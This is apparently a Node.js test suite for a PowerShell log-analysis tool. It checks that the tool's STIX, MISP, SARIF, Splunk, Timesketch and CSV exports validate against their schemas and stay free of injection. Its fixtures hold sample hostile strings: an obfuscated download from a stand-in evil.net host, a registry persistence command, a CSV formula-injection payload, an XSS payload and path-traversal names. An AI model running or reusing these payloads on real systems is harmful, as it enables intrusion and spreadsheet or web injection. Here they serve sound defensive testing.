// Exports against the published schemas of the programs that read them, with hostile texts in the logs.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import test from "node:test";
import { Ajv } from "ajv";
import { Ajv2020 } from "ajv/dist/2020.js";
import { eventsXml } from "../scripts/events.mjs";
import { folder, nativeCommand } from "./support/logs.mjs";
import { runner } from "./support/run.mjs";

const run = runner(nativeCommand);
const schema = (name) => JSON.parse(readFileSync(join(import.meta.dirname, "../tests/schemas", name), "utf8"));

const SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
const TEXTS = [
  "Enable-PSRemoting; iwr ('http://ev'+'il.net:8080/a.ps1') -UserAgent 'b/1'; ping 10.9.8.7; ping 2a00::1",
  `Enable-PSRemoting; if ($h -eq '${SHA256}') { & 'C:\\Users\\x\\a.exe' }; reg add HKLM\\Software\\Evil\\Run`,
  "Enable-PSRemoting; mail a@evil.net; \\\\.\\pipe\\evil; Cert:\\CurrentUser\\My\\DA39A3EE5E6B4B0D3255BFEF95601890AFD80709",
  "=cmd|'/c calc'!A1\r\nEnable-PSRemoting </script><img src=x onerror=alert(1)> \"\u202e\u0085 \u{e0041}",
  "Enable-PSRemoting # '] OR [url:value = 'x",
];
const COMPUTERS = ["FS03.corp.example", "../../etc/passwd", "=HYPERLINK(1)", "CON", "a\\b/c:d"];

const LOG = eventsXml(
  TEXTS.map((text, index) => ({
    text,
    computer: COMPUTERS[index],
    time: `2026-08-08T06:1${index}:52.0830000Z`,
    scriptBlockId: `6f1c2d3e-0000-4000-8000-00000000000${index}`,
    record: index + 1,
    path: index === 1 ? "C:\\Users\\x\\run.ps1" : "",
  })),
);

/** Returns the export of the log by the native command line. */
function exported(t, format, ...words) {
  const dir = folder(t);
  const [log, output] = [join(dir, "log.xml"), join(dir, "out")];
  writeFileSync(log, LOG);
  const { status, stderr } = run(["-f", format, "-o", output, ...words, log]);
  assert.equal(status, 1, stderr);
  return readFileSync(output);
}

const lines = (bytes) =>
  bytes
    .toString()
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line));

function assertValid(validate, value) {
  assert.ok(validate(value), JSON.stringify(validate.errors?.slice(0, 5)));
}

test("the ATT&CK Navigator's layer is one of format 4.5", (t) => {
  const layer = JSON.parse(exported(t, "navigator"));
  assertValid(new Ajv().compile(schema("navigator-layer-4.5.json")), layer);
  assert.ok(layer.techniques.some(({ techniqueID, score }) => techniqueID === "T1059.001" && score >= 5));
});

test("faults of rule files are SARIF of version 2.1.0", (t) => {
  const dir = folder(t);
  const fields = "logsource: { product: windows, category: ps_script }\nlevel: low\n";
  const rules = {
    "é b#c.yml": `title: A </script> \u202e\n${fields}detection: { s: { ScriptBlockText|re: "(" }, condition: s }\n`,
    "unread.yml": "a: [",
    "other.yml": `title: B\n${fields}detection: { s: { EventID: 4688 }, condition: s }\n`,
  };
  for (const [name, text] of Object.entries(rules)) writeFileSync(join(dir, name), text);
  const validate = new Ajv({ strict: false, validateFormats: false }).compile(schema("sarif-2.1.0.json"));
  for (const [words, found] of [
    [["rules", "--no-builtin", "--rules", "."], 3],
    [["test", "."], 2],
    [["test", "unread.yml"], 1],
  ]) {
    const { stdout, stderr } = run([...words, "--format", "sarif"], { cwd: dir });
    const log = JSON.parse(stdout);
    assertValid(validate, log);
    assert.ok(log.runs[0].results.length >= found, `${words}: ${stdout}${stderr}`);
    for (const { ruleId, ruleIndex, locations = [] } of log.runs[0].results) {
      assert.equal(log.runs[0].tool.driver.rules[ruleIndex].id, ruleId);
      // The schema says that it is a URI.
      for (const { physicalLocation } of locations) new URL(physicalLocation.artifactLocation.uri, "file:///");
    }
  }
});

test("every object of the STIX bundle is valid, and its references are in it", (t) => {
  const bundle = JSON.parse(exported(t, "stix"));
  const ajv = new Ajv2020({ strict: false, validateFormats: false, unicodeRegExp: false });
  for (const own of schema("stix-2.1.json").schemas) ajv.addSchema(own);
  const base = "http://raw.githubusercontent.com/oasis-open/cti-stix2-json-schemas/stix2.1/schemas/";
  const folders = { relationship: "sros", indicator: "sdos", identity: "sdos", "observed-data": "sdos" };
  assert.match(bundle.id, /^bundle--[0-9a-f-]{36}$/);
  const ids = new Set(bundle.objects.map(({ id }) => id));
  assert.equal(ids.size, bundle.objects.length);
  for (const object of bundle.objects) {
    const place = object.type === "attack-pattern" ? "sdos" : (folders[object.type] ?? "observables");
    const validate = ajv.getSchema(`${base}${place}/${object.type}.json`);
    assert.ok(validate, object.type);
    assertValid(validate, object);
    const { created_by_ref, source_ref, target_ref, object_refs = [] } = object;
    for (const id of [created_by_ref, source_ref, target_ref, ...object_refs]) assert.ok(!id || ids.has(id), id);
  }
  const patterns = bundle.objects.filter(({ type }) => type === "indicator").map(({ pattern }) => pattern);
  for (const pattern of [
    "[url:value = 'http://evil.net:8080/a.ps1']",
    "[domain-name:value = 'evil.net']",
    "[ipv4-addr:value = '10.9.8.7']",
    "[ipv6-addr:value = '2a00::1']",
    `[file:hashes.'SHA-256' = '${SHA256}']`,
    "[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\Software\\\\Evil\\\\Run']",
    "[file:name = 'a.exe' AND file:parent_directory_ref.path = 'C:\\\\Users\\\\x']",
    "[email-addr:value = 'a@evil.net']",
    "[x509-certificate:hashes.'SHA-1' = 'DA39A3EE5E6B4B0D3255BFEF95601890AFD80709']",
    "[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = 'b/1']",
  ])
    assert.ok(patterns.includes(pattern), `${pattern} is not among ${patterns.join("\n")}`);
  // A pattern has no quotation mark that its value brought.
  for (const pattern of patterns)
    assert.match(pattern, /^\[[^=]+= '(?:[^'\\]|\\.)*'(?: AND [^=]+= '(?:[^'\\]|\\.)*')?\]$/);
});

test("the MISP event is valid, and its types are of their categories", (t) => {
  const event = JSON.parse(exported(t, "misp"));
  const { schema: own, categories } = schema("misp-2.4.json");
  assertValid(new Ajv({ strict: false }).compile(own), event);
  assert.equal(event.Event.date, "2026-08-08");
  assert.ok(event.Event.Attribute.length >= 10);
  for (const { type, category } of event.Event.Attribute) assert.ok(categories[type].includes(category), type);
});

test("OCSF's detection findings are valid", (t) => {
  const validate = new Ajv({ strict: false }).compile(schema("ocsf-1.5.0-detection-finding.json"));
  const findings = lines(exported(t, "ocsf"));
  assert.ok(findings.length >= TEXTS.length);
  for (const finding of findings) {
    assertValid(validate, finding);
    assert.ok(finding.time >= Date.parse("2026-08-08T06:10:00Z") && finding.time < Date.parse("2026-08-08T06:20:00Z"));
  }
});

test("Splunk's risk events have what the HTTP Event Collector and the risk index require", (t) => {
  const report = JSON.parse(exported(t, "json"));
  const events = lines(exported(t, "hec"));
  assert.equal(events.length, report.riskObjects.flatMap((object) => object.events).length);
  const known = ["time", "host", "source", "sourcetype", "index", "event", "fields"];
  for (const line of events) {
    for (const key of Object.keys(line)) assert.ok(known.includes(key), key);
    assert.equal(typeof line.time, "number");
    const { risk_object, risk_object_type, risk_score, search_name } = line.event;
    assert.ok(COMPUTERS.includes(risk_object) || risk_object.startsWith("S-1-5-21"), risk_object);
    assert.ok(["system", "user", "other"].includes(risk_object_type) && risk_score > 0 && search_name);
  }
});

test("Timesketch's events have what it requires", (t) => {
  const events = lines(exported(t, "timesketch"));
  assert.equal(events.length, TEXTS.length);
  for (const { message, datetime, timestamp, timestamp_desc, script_block_text } of events) {
    assert.match(datetime, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00$/);
    assert.equal(Math.floor(timestamp / 1_000), Date.parse(datetime));
    assert.ok(message && timestamp_desc && TEXTS.includes(script_block_text));
  }
  const csv = exported(t, "timesketch-csv").toString();
  assert.match(csv, /^message,datetime,timestamp,timestamp_desc,/);
});

test("no cell of a table is a formula, and no invisible character is left in JSON", (t) => {
  const raw = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u{e0000}-\u{e007f}]/u;
  for (const table of ["results", "blocks", "risk", "acts", "indicators", "findings"]) {
    const csv = exported(t, "csv", "--table", table).toString();
    assert.ok(!/(^|,|\r\n)"?\s*[=+@]/.test(csv.replace(/""/g, "")), table);
    const ndjson = exported(t, "ndjson", "--table", table).toString();
    assert.ok(!raw.test(ndjson), table);
    if (ndjson !== "") lines(Buffer.from(ndjson));
  }
  for (const format of ["navigator", "timesketch", "stix", "misp", "hec", "ocsf"])
    assert.ok(!raw.test(exported(t, format).toString()), format);
});

test("the archive has each script unchanged, under a harmless name, with its hash", (t) => {
  const files = filesOf(exported(t, "scripts-zip"));
  const sums = files.get("SHA256SUMS").toString().trimEnd().split("\n");
  assert.equal(sums.length, TEXTS.length);
  const texts = sums.map((line) => {
    const [sum, name] = line.split("  ");
    assert.match(name, /^scripts\/20260808T061\d52Z_[A-Za-z0-9.-]*_[0-9a-f]{16}\.ps1\.txt$/);
    assert.ok(!name.includes(".."));
    assert.equal(createHash("sha256").update(files.get(name)).digest("hex"), sum);
    return files.get(name).toString();
  });
  assert.deepEqual(texts, TEXTS);
  const manifest = JSON.parse(files.get("manifest.json"));
  assert.deepEqual([manifest.scripts.length, manifest.notIncluded], [TEXTS.length, 0]);
  assert.equal(files.size, TEXTS.length + 2);
});

test("the library writes the same bytes", async (t) => {
  const { Session } = await import("scriptscope");
  const session = new Session();
  session.begin("log.xml");
  session.push(new TextEncoder().encode(LOG));
  session.end();
  for (const format of ["navigator", "timesketch", "timesketch-csv", "stix", "misp", "hec", "ocsf", "scripts-zip"]) {
    const own = session.export(format);
    assert.ok(Buffer.from(own).equals(exported(t, format)), format);
  }
  for (const table of ["results", "blocks", "risk", "acts", "indicators", "findings"])
    for (const format of ["csv", "ndjson"])
      assert.equal(session.export(format, { table }), exported(t, format, "--table", table).toString());
  assert.equal(session.export("csv", { table: "results" }), session.export("csv"));
  const [first, second] = session.report().results;
  const chosen = session.export("ndjson", { ids: [first.id] });
  assert.deepEqual([JSON.parse(chosen).id, chosen.includes(second.id)], [first.id, false]);
  const { rows, leftOut, total } = session.listIndicators({ kind: "url" });
  assert.deepEqual([rows[0].defanged, rows[0].view, total], ["hxxp://evil[.]net:8080/a.ps1", "plain", 1]);
  assert.deepEqual(leftOut, {});
  assert.deepEqual(session.calledNames(TEXTS[0]).cmdlets.slice(0, 2), ["Enable-PSRemoting", "iwr"]);
  assert.throws(() => session.export("docx"), { name: "ScriptscopeError", code: "option" });
});

test("iocs lists indicators, defanged unless it is told otherwise", (t) => {
  const dir = folder(t);
  const log = join(dir, "log.xml");
  writeFileSync(log, LOG);
  const { status, stdout } = run(["iocs", log]);
  assert.equal(status, 1);
  assert.match(stdout, /^url +hxxp:\/\/evil\[\.\]net:8080\/a\.ps1 +1 block · 1 computer · .* · plain$/m);
  assert.match(run(["iocs", "--no-defang", log]).stdout, /^url +http:\/\/evil\.net:8080\/a\.ps1 /m);
  const json = JSON.parse(run(["iocs", "-f", "json", log]).stdout);
  assert.equal(json.total, json.rows.length);
  assert.equal(lines(Buffer.from(run(["iocs", "-f", "ndjson", log]).stdout)).length, json.total);
  assert.match(run(["iocs", "-f", "csv", log]).stdout, /^kind,value,defanged,/);
  assert.equal(JSON.parse(run(["iocs", "-f", "stix", log]).stdout).type, "bundle");
  assert.equal(run(["iocs", "-f", "hec", log]).status, 2);
});

/** Returns the files of an archive of stored files by name, from its list. */
function filesOf(zip) {
  const end = zip.length - 22;
  assert.equal(zip.readUInt32LE(end), 0x06054b50);
  const files = new Map();
  let at = zip.readUInt32LE(end + 16);
  for (let left = zip.readUInt16LE(end + 10); left > 0; left -= 1) {
    const [size, nameSize, offset] = [zip.readUInt32LE(at + 24), zip.readUInt16LE(at + 28), zip.readUInt32LE(at + 42)];
    const name = zip.subarray(at + 46, at + 46 + nameSize).toString();
    files.set(name, zip.subarray(offset + 30 + nameSize, offset + 30 + nameSize + size));
    at += 46 + nameSize;
  }
  return files;
}
